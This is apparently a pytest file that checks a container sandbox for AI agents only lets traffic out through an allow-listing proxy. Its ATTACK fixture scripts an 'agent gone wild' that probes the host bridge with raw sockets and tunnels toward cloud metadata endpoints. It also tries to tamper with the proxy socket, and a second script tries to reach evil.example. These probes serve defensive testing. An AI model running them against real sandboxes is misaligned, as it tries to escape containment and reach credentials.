"""A container that may connect somewhere, from inside: there is no network, and a proxy that says no."""

from __future__ import annotations

import asyncio
import json
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import pytest
from msgspec.structs import replace

from events.catalogue import AttemptSucceeded, EgressRefused, StageProgressed
from events.jetstream import JetStreamLog, ensure_stream
from events.memory import MemoryLog
from services.artifacts import ensure_bucket
from services.executor.container import docker_facts
from services.executor.loop import Executor
from services.logstream import LogLines
from tests.docker.test_adoption import Killable
from tests.unit.executor.stage import MemoryStore, agent, running_here, schedule, settings, until

if TYPE_CHECKING:
    from asyncio import StreamReader, StreamWriter
    from collections.abc import AsyncIterator
    from pathlib import Path

    from aiodocker import Docker
    from aiodocker.networks import DockerNetwork

    from services.executor.docker import DockerRuntime
    from services.log_line import LogLine
    from tests.docker.conftest import Runtimes
    from tests.servers import NatsServer

pytestmark = pytest.mark.docker

TOOLS = """
import socket
def raw(host, port):
    try:
        with socket.create_connection((host, port), timeout=3) as there:
            there.sendall(b"hello")
            there.shutdown(socket.SHUT_WR)
            return there.recv(100).decode()
    except OSError as error:
        return type(error).__name__
def tunnel(host, port):
    with socket.socket(socket.AF_UNIX) as proxy:
        proxy.settimeout(10)
        proxy.connect("/run/podium/proxy.sock")
        proxy.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n".encode())
        head = proxy.recv(1000).decode()
        if " 200 " not in head:
            return head.splitlines()[-1]
        proxy.sendall(b"hello")
        proxy.shutdown(socket.SHUT_WR)
        return proxy.recv(100).decode()
"""
ATTACK = (
    TOOLS
    + """
found = {"own": {}, "proxy": {}}
bridge, port = os.environ["FORBIDDEN"].split()
found["own"]["tcp"] = raw(bridge, port)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
    try: udp.sendto(b"hello", (bridge, int(port))); found["own"]["udp"] = "sent"
    except OSError as error: found["own"]["udp"] = type(error).__name__
for name, kind in (("ip", (socket.AF_INET, socket.SOCK_RAW, 1)), ("packet", (17, socket.SOCK_RAW, 0))):
    try: socket.socket(*kind).close(); found["own"][name] = "made"
    except OSError as error: found["own"][name] = type(error).__name__
found["interfaces"] = sorted(os.listdir("/sys/class/net"))
if os.path.exists("/run/podium"):
    for host in (bridge, "169.254.169.254", "metadata.google.internal", "127.0.0.1"):
        found["proxy"][host] = tunnel(host, port)
    found["allowed"] = tunnel("127.0.0.1", os.environ["ANTHROPIC_BASE_URL"].rpartition(":")[2])
    for change in (lambda: os.unlink("/run/podium/proxy.sock"), lambda: open("/run/podium/x", "w")):
        try: change(); found["changed"] = True
        except OSError as error: found.setdefault("kept", []).append(error.errno)
print(json.dumps(found), flush=True)
"""
)
ANSWER = b"here is the host"


@asynccontextmanager
async def listener(host: str) -> AsyncIterator[tuple[int, list[bytes]]]:
    """A server on this machine that answers once all was said; its port, and what was said."""
    heard: list[bytes] = []

    async def answer(reader: StreamReader, writer: StreamWriter) -> None:
        heard.append(await reader.read())
        writer.write(ANSWER)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, host, 0)
    yield server.sockets[0].getsockname()[1], heard
    server.close()


@pytest.fixture
async def network(docker: Docker) -> AsyncIterator[DockerNetwork]:
    """A bridge like Docker's default one, on which a container reaches its host."""
    made = await docker.networks.create({"Name": f"egress-{uuid4().hex[:12]}", "Driver": "bridge"})
    yield made
    await made.delete()


@pytest.fixture
def runtime(runtimes: Runtimes) -> DockerRuntime:
    return runtimes(docker_facts(cpus=1, memory_bytes=2**28, host_cpus=1, host_memory_bytes=2**28))


class Lines:
    """Log lines, kept."""

    def __init__(self) -> None:
        self.texts: list[str] = []

    async def write(self, job_id: str, line: LogLine) -> None:
        self.texts.append(line.text)

    async def last_number(self, job_id: str, attempt: int) -> int:
        return 0


async def on_a_network(
    docker: Docker, image: str, folder: Path, *, network: str, forbidden: str
) -> dict[str, Any]:
    """What the attack finds in a container that is on a network."""
    config = {
        "Image": image,
        "Env": [f"FORBIDDEN={forbidden}", "PODIUM_OUTPUT_DIR=/output", "PODIUM_WORK_DIR=/output/work"],
        "HostConfig": {"Binds": [f"{folder}:/data:ro"], "NetworkMode": network},
    }
    container = await docker.containers.create(config, name=f"egress-{uuid4().hex}")
    try:
        await container.start()
        await container.wait(timeout=30)
        found: dict[str, Any] = json.loads((await container.log(stdout=True))[0])
        return found
    finally:
        await container.delete(force=True, v=True)


async def test_an_agent_gone_wild_reaches_what_it_may_and_nothing_else(
    docker: Docker, runtime: DockerRuntime, network: DockerNetwork, tmp_path: Path
) -> None:
    bridge = (await network.show())["IPAM"]["Config"][0]["Gateway"]
    public = tmp_path / "competitions" / "t" / "public"
    agent(public, ATTACK + "succeed()")
    log, lines, job_id = MemoryLog(), Lines(), uuid4().hex
    async with listener(bridge) as (port, forbidden), listener("127.0.0.1") as (allowed_port, allowed):
        there = f"{bridge} {port}"
        free = await on_a_network(docker, runtime._image, public, network=network.id, forbidden=there)
        assert free["own"]["tcp"] == ANSWER.decode(), "the host can be reached where nothing prevents it"
        assert forbidden.pop() == b"hello"
        variables = {
            "ANTHROPIC_API_KEY": "sk-test",
            "ANTHROPIC_BASE_URL": f"http://127.0.0.1:{allowed_port}",
            "FORBIDDEN": there,
        }
        given = replace(settings(tmp_path), model_variables=variables)
        await schedule(log, job_id)
        async with running_here(Executor(log, runtime, MemoryStore(), given, lines=lines)):
            events = await until(log, job_id, AttemptSucceeded)
    found = json.loads(lines.texts[-1])
    assert found["interfaces"] == ["lo"]
    assert set(found["own"].values()) <= {"OSError", "PermissionError"}
    refused = [f"{host}:{port} is not on the allow-list" for host in found["proxy"]]
    assert list(found["proxy"].values()) == refused
    assert len(refused) == 4
    assert lines.texts[:-1] == [f"egress refused: {line}" for line in refused]
    assert [event.what for event in events if isinstance(event, EgressRefused)] == refused
    assert found["allowed"] == ANSWER.decode()
    assert (found["kept"], "changed" in found) == ([30, 30], False)
    assert (forbidden, allowed) == ([], [b"hello"])


TALKING = (
    TOOLS
    + """
port = int(os.environ["ANTHROPIC_BASE_URL"].rpartition(":")[2])
for step in range(2):
    wait_for(f"/data/go{step}")
    for _ in range(100):
        try: said_there = tunnel("127.0.0.1", port); break
        except ConnectionRefusedError: time.sleep(0.1)
    tunnel("evil.example", step + 1)
    say("stage_progressed", stage="training", fraction=step / 2, message=said_there)
succeed()
"""
)


async def test_an_executor_that_was_killed_leads_its_containers_out_again(
    docker: Docker, scripted_image: str, nats_server: NatsServer, tmp_path: Path
) -> None:
    async with listener("127.0.0.1") as (port, heard), nats_server.connection() as connection:
        await ensure_stream(connection.jetstream())
        await ensure_bucket(connection.jetstream())
        log, job_id = JetStreamLog(connection, source="test"), uuid4().hex
        executor = Killable(tmp_path, nats_server.url, scripted_image)
        executor.set(ANTHROPIC_API_KEY="sk-test", ANTHROPIC_BASE_URL=f"http://127.0.0.1:{port}")
        folder = executor.competition("talking", TALKING)
        await schedule(log, job_id, competition="talking")
        await executor.start()
        try:
            (folder / "go0").touch()
            await until(log, job_id, StageProgressed)
            await executor.kill()
            (folder / "go1").touch()
            await asyncio.sleep(0.5)
            await executor.start()
            events = await until(log, job_id, AttemptSucceeded)
        finally:
            await executor.stop()
        lines = [line.text async for line in LogLines(connection).stored(job_id)]
    said = [event.message for event in events if isinstance(event, StageProgressed)]
    assert said == [ANSWER.decode()] * 2
    assert heard == [b"hello"] * 2
    refused = [f"evil.example:{step} is not on the allow-list" for step in (1, 2)]
    assert [event.what for event in events if isinstance(event, EgressRefused)] == refused
    assert lines == [f"egress refused: {what}" for what in refused]
    assert not list((tmp_path / "work" / "egress" / executor.id).iterdir())
